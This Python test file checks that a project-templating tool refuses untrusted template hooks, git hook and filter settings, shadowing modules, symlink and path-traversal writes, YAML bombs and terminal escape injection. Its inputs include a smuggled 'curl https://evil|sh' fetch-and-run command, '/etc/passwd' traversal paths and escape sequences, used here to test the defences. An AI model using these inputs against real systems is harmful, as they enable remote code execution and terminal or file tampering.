"""The commands `update` and `status` run no programs of untrusted projects and templates."""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from extracts import files
from extracts import home as homes
from extracts.errors import ExtractsError
from local_cloud.demo import run as demo
from tests.support.releases import ADDRESS, commit, edit, git
from tests.support.tool import Extracts, call


@pytest.fixture
def strange(tmp_path: Path) -> tuple[Path, Path]:
    """Return a repository of a template whose hook creates a file, and the path of this file."""
    folder, trace = tmp_path / "strange", tmp_path / "trace"
    template = folder / "templates/extract"
    stamped = template / "{{cookiecutter.project_slug}}"
    (template / "hooks").mkdir(parents=True)
    stamped.mkdir()
    (stamped / "README.md").write_text("strange")
    (template / "cookiecutter.json").write_text(json.dumps({"project_slug": "x", "_repository": ""}))
    (template / "hooks/pre_gen_project.py").write_text(f"open({str(trace)!r}, 'w').close()\n")
    (folder / "CHANGELOG.md").write_text("# Changelog\n\n## 1.0.0\n\n- The first.\n")
    git(tmp_path, "init", "-q", "strange")
    git(folder, "add", "-A")
    git(folder, "commit", "-qm", "Strange")
    for version in ("v1.0.0", "v1.1.0"):
        git(folder, "tag", version)
    return folder, trace


def test_update_runs_no_hook_if_only_the_project_names_the_template(
    project: Path, strange: tuple[Path, Path], tmp_path: Path
) -> None:
    collection, trace = strange
    edit(project / "extract.yaml", f'template: "{ADDRESS}"', f'template: "file://{collection}"')
    commit(project)
    done = call("update", f"file://{project}", "--dry-run", folder=tmp_path)
    assert not trace.exists()
    assert (done.returncode, done.stderr) == (
        1,
        f"✗ file://{project} was created from file://{collection}, not from {ADDRESS}. An update runs"
        f" programs of the template. If you trust this template, add --template file://{collection}.\n",
    )
    assert call("update", project, "--dry-run", "--template", collection).returncode == 0
    assert trace.exists()


def test_update_runs_no_hook_of_a_release_older_than_the_oldest_safe_release(project: Path) -> None:
    edit(project / "extract.yaml", 'version: "1.0.0"', 'version: "0.0.9"')
    commit(project)
    done = call("update", project, "--dry-run")
    assert (done.returncode, done.stderr) == (
        1,
        f"✗ {project} was created from version 0.0.9, whose programs an update does not run; create it again"
        " with version 1.1.0 in another folder.\n",
    )


@pytest.mark.parametrize("named", [ADDRESS, f"{ADDRESS}.git", f"{ADDRESS}/"])
def test_template_of_this_repository_is_trusted_even_if_no_option_names_it(named: str) -> None:
    assert homes.runnable(named, None, "bank") == named


@pytest.mark.parametrize("named", [f"{ADDRESS}-evil", f"{ADDRESS}/../evil", ".", "\x1b[2Jhome"])
def test_template_of_another_repository_is_refused_if_no_option_names_it(named: str) -> None:
    with pytest.raises(ExtractsError, match="add --template") as refused:
        homes.runnable(named, None, "bank")
    assert "\x1b" not in str(refused.value)
    assert homes.runnable(named, "/trusted", "bank") == "/trusted"


@pytest.mark.parametrize("command", ["preview", "doctor"])
def test_help_warns_that_a_command_runs_code_of_the_project(command: str) -> None:
    said = " ".join(call(command, "--help", variables={"COLUMNS": "200"}).stdout.split())
    assert "runs Glue/etl.py of the project as a program with your rights" in said.replace("Runs", "runs")


def program(folder: Path, name: str) -> tuple[Path, Path]:
    """Return a program that creates a file, and the path of this file."""
    file, trace = folder / name, folder / f"{name}-ran"
    file.write_text(f"#!/bin/sh\ntouch {trace}\ncat\n")
    file.chmod(0o755)
    return file, trace


@pytest.mark.parametrize("setting", ["core.fsmonitor", "filter.own.clean", "filter.own.process"])
def test_update_runs_no_program_from_the_git_settings_of_the_repository(
    setting: str, project: Path, tmp_path: Path
) -> None:
    (project / ".gitattributes").write_text("*.md filter=own\n")
    commit(project)
    file, trace = program(tmp_path, "program")
    git(project, "config", setting, str(file))
    (project / "README.md").touch()
    done = call("update", project, "--template", tmp_path / "old", "--to", "1.0.0")
    assert (done.returncode, done.stdout) == (0, f"{project} is up to date with version 1.0.0.\n")
    assert not trace.exists()


def test_update_runs_no_git_hook_of_the_project(project: Path, tmp_path: Path) -> None:
    file, trace = program(tmp_path, "program")
    (project / ".git/hooks").mkdir(exist_ok=True)
    file.rename(project / ".git/hooks/post-index-change")
    (project / "README.md").touch()
    assert call("update", project, "--template", tmp_path / "old", "--to", "1.0.0").returncode == 0
    assert not trace.exists()


def test_update_runs_no_program_of_a_submodule(project: Path, tmp_path: Path) -> None:
    git(tmp_path, "init", "-q", "part")
    git(tmp_path / "part", "commit", "-q", "--allow-empty", "-m", "Part")
    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(tmp_path / "part"), "part")
    commit(project)
    file, trace = program(tmp_path, "program")
    git(project / "part", "config", "core.fsmonitor", str(file))
    assert call("update", project, "--template", tmp_path / "old", "--to", "1.0.0").returncode == 0
    assert not trace.exists()


################################################################################
# Content of a project's files
################################################################################


def deep(open_bracket: str, close_bracket: str, levels: int = 3_000) -> str:
    return open_bracket * levels + close_bracket * levels


def bomb() -> str:
    """Return 400 bytes of YAML that expand to 10 billion values."""
    lines = ["a0: &a0 lol"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 11)]
    return "\n".join([*lines, "template: x", 'version: "1.0.0"', "default_context:", "  metric: *a10", ""])


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (bomb(), "line 2 has a YAML alias; write the value instead."),
        (deep("[", "]"), "it is nested too deeply."),
        ("a: 2026-13-45", "month must be in 1..12."),
        ("x" * (5 << 20), "it is larger than 4 MiB."),
    ],
)
def test_error_for_unreadable_settings_has_one_line(
    content: str, why: str, project: Path, tmp_path: Path
) -> None:
    (project / "extract.yaml").write_text(content)
    answers = tmp_path / "answers.yaml"
    answers.write_text(content)
    status = call("status", project)
    assert (status.returncode, status.stderr) == (1, f"✗ {project}/extract.yaml cannot be read: {why}\n")
    new = call("new", "--no-input", "--answers", answers, folder=tmp_path)
    assert (new.returncode, new.stderr) == (1, f"✗ {answers} cannot be read: {why}\n")


def test_error_does_not_quote_a_file_that_a_symbolic_link_points_to(project: Path, tmp_path: Path) -> None:
    (tmp_path / "secrets.yaml").write_text("password: swordfish: 1\n")
    (project / "extract.yaml").unlink()
    (project / "extract.yaml").symlink_to(tmp_path / "secrets.yaml")
    done = call("status", project)
    assert done.stderr == f"✗ {project}/extract.yaml cannot be read: it is not YAML in line 1, column 20.\n"


def test_command_in_an_error_is_quoted_for_the_shell() -> None:
    with pytest.raises(ExtractsError, match=r"add --template 'https://x/y; curl https://evil\|sh'\."):
        homes.runnable("https://x/y; curl https://evil|sh", None, "bank")


@pytest.mark.parametrize("place", ["extract.yaml", "Terraform/main.tf"])
def test_endless_file_in_a_project_is_refused(place: str, project: Path) -> None:
    (project / place).unlink()
    (project / place).symlink_to("/dev/zero")
    done = call("status", project)
    assert (done.returncode, done.stderr) == (
        1,
        f"✗ {project / place} cannot be read: it is not a regular file.\n",
    )


def test_named_pipe_in_a_project_is_refused_without_waiting(project: Path) -> None:
    (project / "Terraform/main.tf").unlink()
    os.mkfifo(project / "Terraform/main.tf")
    assert "it is not a regular file" in call("status", project).stderr


def test_folder_name_with_markup_is_printed_unchanged(project: Path, tmp_path: Path) -> None:
    for name in ("[", "[red]team"):
        (tmp_path / "team" / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copytree(project, tmp_path / "team" / name / "]")
    done = call("status", "team", folder=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "team/[/]" in done.stdout
    assert "team/[red]team/]" in done.stdout


def test_control_characters_of_a_changelog_are_not_printed(project: Path, home: Path, tmp_path: Path) -> None:
    git(tmp_path, "clone", "-q", str(home), "other")
    log = tmp_path / "other/CHANGELOG.md"
    log.write_text(
        "# Changelog\n\n## 1.1.0\n\n- \x1b]0;owned\x07\x1b[2JNew\u202e\x9b31m.\n\n## 1.0.0\n\n- First.\n"
    )
    git(tmp_path / "other", "commit", "-qam", "Log")
    git(tmp_path / "other", "tag", "-f", "v1.1.0")
    done = call("status", project, "--template", tmp_path / "other")
    assert done.returncode == 0, done.stderr
    assert "- ]0;owned[2JNew31m." in done.stdout
    told = call("status", project, "--template", tmp_path / "other", "--json")
    assert json.loads(told.stdout)["notes"]["1.1.0"] == "- \x1b]0;owned\x07\x1b[2JNew\u202e\x9b31m."
    for text in (done.stdout, told.stdout):
        assert not {"\x1b", "\x07", "\u202e", "\x9b"} & set(text)


################################################################################
# The tool writes nothing outside of a project
################################################################################


@pytest.mark.parametrize(
    ("link", "why"),
    [
        ("Makefile", "is a symbolic link; replace it with a file."),
        ("Glue", "is a symbolic link; replace it with a folder."),
        ("CODEOWNERS", "is a symbolic link; replace it with a file."),
    ],
)
@pytest.mark.parametrize("options", [(), ("--dry-run",), ("--plan", "--dry-run")])
def test_update_does_not_write_through_a_symbolic_link(
    link: str, why: str, options: tuple[str, ...], project: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside" / link
    outside.parent.mkdir()
    if (project / link).exists():
        (project / link).rename(outside)
    (project / link).symlink_to(outside)
    commit(project)
    before = {path: path.read_bytes() for path in outside.parent.rglob("*") if path.is_file()}
    done = call("update", project, *options)
    assert (done.returncode, done.stderr) == (1, f"✗ {project / link} {why}\n")
    assert {path: path.read_bytes() for path in outside.parent.rglob("*") if path.is_file()} == before


def test_update_does_not_write_into_a_nested_repository(project: Path) -> None:
    git(project / "Glue", "init", "-q")
    commit(project / "Glue")
    git(project, "rm", "-rq", "--cached", "Glue")
    commit(project)
    done = call("update", project)
    assert done.stderr == (
        f"✗ {project}/Glue is a separate git repository; Glue/etl.py cannot be written there.\n"
    )


@pytest.mark.parametrize(
    "place", ["/etc/passwd", "../x", "a/../../x", "", "link", "link/x", "dangling", "a\0b"]
)
def test_path_outside_the_folder_is_refused(place: str, tmp_path: Path) -> None:
    (tmp_path / "root").mkdir()
    (tmp_path / "root/link").symlink_to(tmp_path)
    (tmp_path / "root/dangling").symlink_to("nowhere")
    with pytest.raises(ExtractsError):
        files.inside(tmp_path / "root", place)


def test_project_folder_may_be_a_symbolic_link(tmp_path: Path) -> None:
    (tmp_path / "root/a").mkdir(parents=True)
    (tmp_path / "link").symlink_to("root")
    assert files.inside(tmp_path / "link", "a/..b") == tmp_path / "link/a/..b"


def test_new_project_does_not_replace_a_link(tmp_path: Path) -> None:
    (tmp_path / "bank-loans").symlink_to("nowhere")
    done = call("new", "--no-input", "--alert-email", "data-team@example.com", folder=tmp_path)
    assert done.returncode == 1
    assert "bank-loans is a symbolic link" in done.stderr


def test_page_of_a_preview_does_not_replace_a_link(project: Path, tmp_path: Path) -> None:
    (tmp_path / "figures").mkdir()
    (tmp_path / "figures/report.html").symlink_to(tmp_path / "mine")
    url = "postgresql://reader@127.0.0.1:1/bank"
    done = call("preview", project, "--database-url", url, "--output", tmp_path / "figures")
    assert (done.returncode, done.stderr) == (
        1,
        f"✗ {tmp_path}/figures/report.html is a symbolic link; replace it with a file.\n",
    )


def test_stopping_the_demo_deletes_only_its_own_files(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (tmp_path / "running.json").write_text(json.dumps({"processes": [], "folders": [str(mine)]}))
    demo.stop(tmp_path)
    assert mine.is_dir()


def test_private_file_is_never_readable_by_others(tmp_path: Path) -> None:
    files.write_private(tmp_path / "note", "secret")
    assert ((tmp_path / "note").stat().st_mode & 0o777, (tmp_path / "note").read_text()) == (0o600, "secret")
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(FileExistsError):
        files.write_private(tmp_path / "link", "secret")


def test_control_characters_in_names_are_not_printed(
    made: Callable[[str, str], str], extracts: Extracts
) -> None:
    name = "paid\x1b[2J\x1b]0;owned\x07\u202e[/][bold]"
    url = made("orders", f'create table "{name}" ("{name}d" date, "{name}n" int, owner text)')
    plain = "paid[2J]0;owned[/][bold]"
    shown = extracts("inspect", "--database-url", url)
    assert shown.returncode == 0, shown.stderr
    assert plain in shown.stdout
    told = extracts("inspect", "--database-url", url, "--json")
    assert [e["table"] for e in json.loads(told.stdout)["entities"]] == [name]
    for text in (shown.stdout, told.stdout):
        assert not {"\x1b", "\x07", "\u202e"} & set(text)


################################################################################
# Connections to a database
################################################################################


def declining(server: socket.socket, received: list[bytes]) -> None:
    """A server that declines TLS, requests a password in clear text, and records it."""
    connection, _ = server.accept()
    with connection:
        connection.settimeout(10)
        for answer in (b"N", b"R\x00\x00\x00\x08\x00\x00\x00\x03", b""):
            data = connection.recv(4096)
            received.append(data)
            if not data or not answer:
                return
            connection.sendall(answer)


@pytest.mark.parametrize(
    ("host", "parameters", "told"),
    [
        ("127.1", "", False),  # the tool treats this form of a loopback address as another machine
        ("127.1", "?sslmode=prefer", True),
        ("127.0.0.1", "", True),
    ],
)
def test_password_is_sent_to_another_machine_over_tls_only(
    host: str, parameters: str, told: bool, extracts: Extracts
) -> None:
    received: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        url = f"postgresql://reader:swordfish@{host}:{server.getsockname()[1]}/bank{parameters}"
        thread = threading.Thread(target=declining, args=(server, received))
        thread.start()
        done = extracts("inspect", "--database-url", url)
        thread.join(20)
    assert done.returncode == 1
    assert (b"swordfish" in b"".join(received)) is told
    if not told:
        assert "does not support TLS" in done.stderr
        assert "sslmode=disable" in done.stderr


################################################################################
# Python files in the current folder
################################################################################


@pytest.mark.parametrize("command", ["new", "update", "preview", "doctor"])
def test_python_files_of_the_current_folder_do_not_run(
    command: str, project: Path, extracts: Extracts, tmp_path: Path
) -> None:
    """If a file in the current folder has the name of a module, Python must not import the file."""
    ran = tmp_path / "ran"
    for name in ("cookiecutter", "extracts", "json", "pip", "rolling_errors", "typing"):
        (tmp_path / f"{name}.py").write_text(f"open({str(ran)!r}, 'a').write({name!r})\n")
    url = ("--database-url", "postgresql://reader@127.0.0.1:1/bank")
    arguments = {
        "new": ("--no-input", "--alert-email", "data-team@example.com", "--dry-run"),
        "update": (str(project), "--dry-run"),
        "preview": (str(project), *url),
        "doctor": (str(project), *url),
    }
    wheels = {"EXTRACTS_PROGRAMS": "wheels", "EXTRACTS_CACHE": str(tmp_path / "cache"), "PIP_NO_INDEX": "1"}
    done = extracts(command, *arguments[command], **wheels)
    assert not ran.exists(), ran.read_text()
    expected = {"new": "", "update": "", "preview": "127.0.0.1:1", "doctor": "could not download"}[command]
    assert expected in done.stdout + done.stderr
    assert done.returncode == (1 if expected else 0), done.stderr
